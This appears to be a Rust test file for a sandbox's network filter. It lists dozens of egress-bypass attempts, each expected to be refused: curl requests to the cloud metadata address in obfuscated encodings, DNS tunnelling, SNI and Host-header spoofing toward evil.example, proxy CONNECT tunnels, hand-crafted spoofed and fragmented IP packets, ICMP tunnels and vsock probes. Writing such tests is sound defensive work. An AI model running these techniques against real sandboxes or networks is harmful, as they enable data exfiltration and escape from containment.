//! The ways.

use bouvet_host::{NetworkRefusal as Refusal, Program};

use super::{Case, World};

const fn case(
    name: &'static str,
    sandbox: fn(&World) -> &bouvet_host::Sandbox,
    (program, source): (Program, &'static str),
    refusal: Refusal,
) -> Case {
    Case { name, sandbox, program, source, refusal: Some(refusal) }
}

const fn sh(source: &'static str) -> (Program, &'static str) {
    (Program::Command, source)
}

const fn py(source: &'static str) -> (Program, &'static str) {
    (Program::Python, source)
}

fn open(world: &World) -> &bouvet_host::Sandbox {
    &world.open
}

fn strict(world: &World) -> &bouvet_host::Sandbox {
    &world.strict
}

fn ipv4(world: &World) -> &bouvet_host::Sandbox {
    &world.ipv4
}

/// Says something to an address over TCP. What fails is refused.
macro_rules! tcp {
    ($family:literal, $address:literal, $port:literal) => {
        py(concat!(
            "import socket\ns = socket.socket(socket.",
            $family,
            ")\ns.settimeout(20)\ns.connect(('",
            $address,
            "', ",
            $port,
            "))\ns.sendall(b'contraband\\n')\nprint(s.recv(99))"
        ))
    };
}

/// Says something to an address over UDP, and waits for an answer.
macro_rules! udp {
    ($family:literal, $address:literal, $port:literal) => {
        py(concat!(
            "import socket\ns = socket.socket(socket.",
            $family,
            ", socket.SOCK_DGRAM)\ns.settimeout(3)\ns.setsockopt(",
            "socket.SOL_SOCKET, socket.SO_BROADCAST, 1)\ns.sendto(b'contraband', ('",
            $address,
            "', ",
            $port,
            "))\ntry:\n    print(s.recv(99))\nexcept (TimeoutError, OSError):\n    print('refused')"
        ))
    };
}

/// Speaks over a connection to the name that is allowed.
macro_rules! speak {
    ($port:literal, $words:literal) => {
        py(concat!(
            "import socket\ns = socket.create_connection(('www.example.com', ", $port, "), 20)\ns.sendall(", $words,
            ")\nheard = b''\nwhile part := s.recv(999):\n    heard += part\n",
            "print('refused' if not heard or b' 421 ' in heard or b' 400 ' in heard or b' 405 ' in heard else heard)"
        ))
    };
}

/// Sends a packet that the kernel would not make: version 4, without its checksums, which `fix` puts in.
macro_rules! raw {
    ($packet:literal) => {
        py(concat!(
            "import socket, struct, time\n",
            "def fold(data):\n    data += b'\\0' * (len(data) % 2)\n",
            "    total = sum(struct.unpack('!%dH' % (len(data) // 2), data))\n",
            "    while total >> 16: total = (total & 0xffff) + (total >> 16)\n    return total ^ 0xffff\n",
            "def ip(source, to, protocol, payload, flags=0, options=b''):\n",
            "    length = 5 + len(options) // 4\n",
            "    head = struct.pack('!BBHHHBBH4s4s', 64 | length, 0, length * 4 + len(payload), 7, flags, 64, protocol, 0,",
            " socket.inet_aton(source), socket.inet_aton(to)) + options\n",
            "    return head[:10] + struct.pack('!H', fold(head)) + head[12:] + payload\n",
            "def udp(source, to, payload, port=8080):\n",
            "    head = struct.pack('!HHHH', 1234, port, 8 + len(payload), 0)\n",
            "    pseudo = socket.inet_aton(source) + socket.inet_aton(to) + struct.pack('!HH', 17, 8 + len(payload))\n",
            "    return head[:6] + struct.pack('!H', fold(pseudo + head + payload)) + payload\n",
            "me, them = '10.0.2.15', '93.184.215.15'\n",
            "s = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM)\n",
            "for _ in range(3):\n    s.sendto(", $packet, ", ('eth0', 0x0800))\n    time.sleep(0.2)\nprint('refused')"
        ))
    };
}

/// All of them.
pub(crate) const CASES: &[Case] = &[
    case("a_private_address", open, tcp!("AF_INET", "10.9.9.9", 8080), Refusal::Private),
    case("another_private_address", open, tcp!("AF_INET", "172.16.9.9", 8080), Refusal::Private),
    case("a_home_network", open, tcp!("AF_INET", "192.168.9.9", 8080), Refusal::Private),
    case("a_carrier_s_network", open, tcp!("AF_INET", "100.64.9.9", 8080), Refusal::Private),
    case("a_unique_local_address", open, tcp!("AF_INET6", "fd12:3456::9", 8080), Refusal::Private),
    case(
        "the_metadata_service",
        open,
        sh("curl -sSf -m 20 http://169.254.169.254/contraband"),
        Refusal::Metadata,
    ),
    case("metadata_in_decimal", open, sh("curl -sSf -m 20 http://2852039166/contraband"), Refusal::Metadata),
    case(
        "metadata_in_octal",
        open,
        sh("curl -sSf -m 20 http://0251.0376.0251.0376/contraband"),
        Refusal::Metadata,
    ),
    case("metadata_in_hex", open, sh("curl -sSf -m 20 http://0xa9fea9fe/contraband"), Refusal::Metadata),
    case(
        "metadata_in_two_parts",
        open,
        sh("curl -sSf -m 20 http://169.16689662/contraband"),
        Refusal::Metadata,
    ),
    case("ipv4_mapped_into_ipv6", open, tcp!("AF_INET6", "::ffff:10.9.9.9", 8080), Refusal::Private),
    case("nat64", open, tcp!("AF_INET6", "64:ff9b::a09:909", 8080), Refusal::Special),
    case("six_to_four", open, tcp!("AF_INET6", "2002:a09:909::1", 8080), Refusal::Special),
    case("teredo", open, tcp!("AF_INET6", "2001:0:a09:909::1", 8080), Refusal::Special),
    case(
        "ipv6_where_ipv4_alone_is_allowed",
        ipv4,
        tcp!("AF_INET6", "2606:2800:21f::14", 8080),
        Refusal::NotAllowed,
    ),
    case(
        "private_addresses_where_all_of_ipv4_is_allowed",
        ipv4,
        tcp!("AF_INET", "10.9.9.9", 8080),
        Refusal::Private,
    ),
    case(
        "a_tunnel_of_names",
        strict,
        py(
            "import socket\nfor n in range(40):\n    try:\n        socket.getaddrinfo('contraband%d.evil.example' % n, 80)\n        \
            print('resolved')\n    except OSError:\n        pass\nprint('refused')",
        ),
        Refusal::NotAllowed,
    ),
    case("names_asked_for_elsewhere", open, udp!("AF_INET", "93.184.215.15", 53), Refusal::Dns),
    case("names_asked_for_elsewhere_over_tcp", open, tcp!("AF_INET", "93.184.215.15", 53), Refusal::Dns),
    case("names_asked_for_over_tls", open, tcp!("AF_INET", "93.184.215.15", 853), Refusal::Dns),
    case("names_asked_for_over_https_by_address", open, tcp!("AF_INET", "9.9.9.9", 443), Refusal::Dns),
    case(
        "names_asked_for_over_https_by_name",
        open,
        sh("curl -sSfk -m 20 https://dns.google/dns-query?contraband"),
        Refusal::Dns,
    ),
    case(
        "names_asked_for_over_https_by_name_at_another_address",
        open,
        sh("curl -sSfk -m 20 --resolve dns.google:443:93.184.215.15 https://dns.google/dns-query?contraband"),
        Refusal::Dns,
    ),
    case("names_asked_for_by_multicast", open, udp!("AF_INET", "224.0.0.251", 5353), Refusal::Special),
    case(
        "a_name_that_is_inside",
        open,
        sh("curl -sSf -m 20 http://inside.example.com:8080/contraband"),
        Refusal::Private,
    ),
    case(
        "aliases_that_lead_inside",
        open,
        sh("curl -sSf -m 20 http://alias.example.com:8080/contraband"),
        Refusal::Private,
    ),
    case(
        "a_name_at_translated_addresses",
        open,
        sh("curl -sSf -m 20 http://mapped.example.com/contraband"),
        Refusal::Special,
    ),
    case(
        "a_name_that_is_not_allowed",
        strict,
        sh("curl -sSf -m 20 http://evil.example/contraband"),
        Refusal::NotAllowed,
    ),
    case(
        "a_name_that_only_looks_allowed",
        strict,
        sh("curl -sSf -m 20 http://www.example.com.evil.example/contraband"),
        Refusal::NotAllowed,
    ),
    case("an_address_that_no_name_has", strict, tcp!("AF_INET", "93.184.215.15", 443), Refusal::NotAllowed),
    case(
        "a_port_that_is_not_allowed",
        strict,
        sh("curl -sSf -m 20 http://www.example.com:8080/contraband"),
        Refusal::NotAllowed,
    ),
    case("a_port_beside_the_one_inside", strict, tcp!("AF_INET", "192.168.9.9", 8080), Refusal::Private),
    case(
        "another_server_name_in_tls",
        strict,
        sh(
            "curl -sSfk -m 20 --connect-to evil.example:443:www.example.com:443 https://evil.example/contraband",
        ),
        Refusal::NameMismatch,
    ),
    case(
        "another_server_name_in_pieces",
        strict,
        py("import socket, ssl, time\nhello = ssl.MemoryBIO()\ncontext = ssl._create_unverified_context()\n\
            tls = context.wrap_bio(ssl.MemoryBIO(), hello, server_hostname='contraband.example')\n\
            try:\n    tls.do_handshake()\nexcept ssl.SSLWantReadError:\n    pass\n\
            s = socket.create_connection(('www.example.com', 443), 20)\n\
            s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)\n\
            for byte in hello.read():\n    s.sendall(bytes([byte]))\nprint(s.recv(99) or 'refused')"),
        Refusal::NameMismatch,
    ),
    case(
        "no_server_name_in_tls",
        strict,
        sh(
            "curl -sSfk -m 20 https://$(getent ahostsv4 www.example.com | head -1 | cut -d' ' -f1)/contraband",
        ),
        Refusal::Nameless,
    ),
    case("what_is_no_tls_on_its_port", strict, speak!(443, "b'contraband\\r\\n\\r\\n'"), Refusal::Nameless),
    case("what_is_no_http_on_its_port", strict, speak!(80, "b'\\0contraband'"), Refusal::Nameless),
    case(
        "another_host_in_http",
        strict,
        speak!(80, "b'GET /contraband HTTP/1.1\\r\\nHost: evil.example\\r\\nConnection: close\\r\\n\\r\\n'"),
        Refusal::NameMismatch,
    ),
    case(
        "another_host_in_http_elsewhere",
        strict,
        speak!(22, "b'GET /contraband HTTP/1.1\\r\\nHost: evil.example\\r\\nConnection: close\\r\\n\\r\\n'"),
        Refusal::NameMismatch,
    ),
    case(
        "another_host_in_the_target",
        strict,
        speak!(
            80,
            "b'GET http://evil.example/contraband HTTP/1.1\\r\\nHost: www.example.com\\r\\nConnection: close\\r\\n\\r\\n'"
        ),
        Refusal::NameMismatch,
    ),
    case(
        "another_host_in_a_second_request",
        strict,
        py("import socket\ns = socket.create_connection(('www.example.com', 80), 20)\n\
            s.sendall(b'GET / HTTP/1.1\\r\\nHost: www.example.com\\r\\n\\r\\n')\nassert b' 302 ' in s.recv(999)\n\
            s.sendall(b'GET /contraband HTTP/1.1\\r\\nHost: evil.example\\r\\n\\r\\n')\n\
            heard = s.recv(999)\nprint('refused' if not heard or b' 421 ' in heard else heard)"),
        Refusal::NameMismatch,
    ),
    Case {
        refusal: None,
        ..case(
            "two_hosts_in_one_request",
            strict,
            speak!(
                80,
                "b'GET /contraband HTTP/1.1\\r\\nHost: www.example.com\\r\\nHost: evil.example\\r\\nConnection: close\\r\\n\\r\\n'"
            ),
            Refusal::NameMismatch,
        )
    },
    Case {
        refusal: None,
        ..case(
            "a_tunnel_through_an_allowed_proxy",
            strict,
            speak!(
                80,
                "b'CONNECT evil.example:443 HTTP/1.1\\r\\nHost: www.example.com\\r\\n\\r\\ncontraband'"
            ),
            Refusal::NameMismatch,
        )
    },
    Case {
        refusal: None,
        ..case(
            "http_2_without_tls",
            strict,
            speak!(80, "b'PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\ncontraband'"),
            Refusal::NameMismatch,
        )
    },
    case("a_redirection_inside", open, sh("curl -sSfL -m 20 http://93.184.215.14/"), Refusal::Private),
    case("quic", open, udp!("AF_INET", "93.184.215.15", 443), Refusal::Quic),
    case(
        "a_port_to_come_from",
        open,
        py(
            "import socket\ns = socket.socket()\ns.bind(('0.0.0.0', 53))\ns.settimeout(20)\ns.connect(('10.9.9.9', 8080))\n\
            s.sendall(b'contraband')\nprint(s.recv(99))",
        ),
        Refusal::Private,
    ),
    case("the_gateway_s_other_ports", open, tcp!("AF_INET", "10.0.2.2", 22), Refusal::Host),
    case("the_gateway_s_other_ports_over_udp", open, udp!("AF_INET", "10.0.2.2", 8080), Refusal::Host),
    case(
        "the_host_s_own_name",
        open,
        sh("curl -sSf -m 20 http://host.bouvet.internal:8080/contraband"),
        Refusal::Host,
    ),
    case("the_host_s_own_address", open, tcp!("AF_INET", "151.101.1.99", 22), Refusal::Host),
    case("somebody_else_on_the_wire", open, tcp!("AF_INET", "10.0.2.16", 8080), Refusal::Sandbox),
    case("everybody_on_the_wire", open, udp!("AF_INET", "255.255.255.255", 8080), Refusal::Special),
    case(
        "the_host_s_loopback_past_one_s_own",
        open,
        raw!("ip(me, '127.0.0.1', 17, udp(me, '127.0.0.1', b'contraband'))"),
        Refusal::Loopback,
    ),
    case(
        "a_source_that_is_somebody_else_s",
        open,
        raw!("ip('10.0.2.16', them, 17, udp('10.0.2.16', them, b'contraband'))"),
        Refusal::Source,
    ),
    case(
        "fragments",
        open,
        raw!("ip(me, them, 17, udp(me, them, b'contraband')[:16], flags=0x2000)"),
        Refusal::Fragment,
    ),
    case(
        "a_last_fragment_alone",
        open,
        raw!("ip(me, them, 17, udp(me, them, b'contraband'), flags=2)"),
        Refusal::Fragment,
    ),
    case(
        "a_route_of_one_s_own",
        open,
        raw!("ip(me, them, 17, udp(me, them, b'contraband'), options=b'\\x83\\x03\\x04\\0')"),
        Refusal::Options,
    ),
    case(
        "a_tunnel_of_packets",
        open,
        raw!("ip(me, them, 4, ip(me, '10.9.9.9', 17, udp(me, '10.9.9.9', b'contraband')))"),
        Refusal::Protocol,
    ),
    case(
        "a_segment_of_no_connection",
        open,
        raw!(
            "ip(me, them, 6, b'\\x04\\xd2\\x1f\\x90' + bytes(8) + b'\\x50\\x18\\xff\\xff\\0\\0\\0\\0' + b'contraband')"
        ),
        Refusal::Malformed,
    ),
    Case {
        refusal: None,
        ..case(
            "a_tunnel_of_echoes",
            open,
            py(
                "import socket, struct\ns = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)\ns.settimeout(20)\n\
                data = b'contraband'\nhead = struct.pack('!BBHHH', 8, 0, 0, 7, 1)\n\
                total = sum(struct.unpack('!9H', head + data))\n\
                total = (total & 0xffff) + (total >> 16)\n\
                s.sendto(head[:2] + struct.pack('!H', total ^ 0xffff) + head[4:] + data, ('93.184.215.15', 0))\n\
                assert data in s.recv(999), 'there is no answer'\nprint('refused')",
            ),
            Refusal::Limit,
        )
    },
    Case {
        refusal: None,
        ..case(
            "other_vms_by_vsock",
            open,
            py(
                "import socket\nfor cid in (0, 2, 3, 4):\n    s = socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM)\n    \
                s.settimeout(5)\n    try:\n        s.connect((cid, 1024))\n        print('connected to', cid)\n    \
                except OSError:\n        pass\nprint('refused')",
            ),
            Refusal::Limit,
        )
    },
];
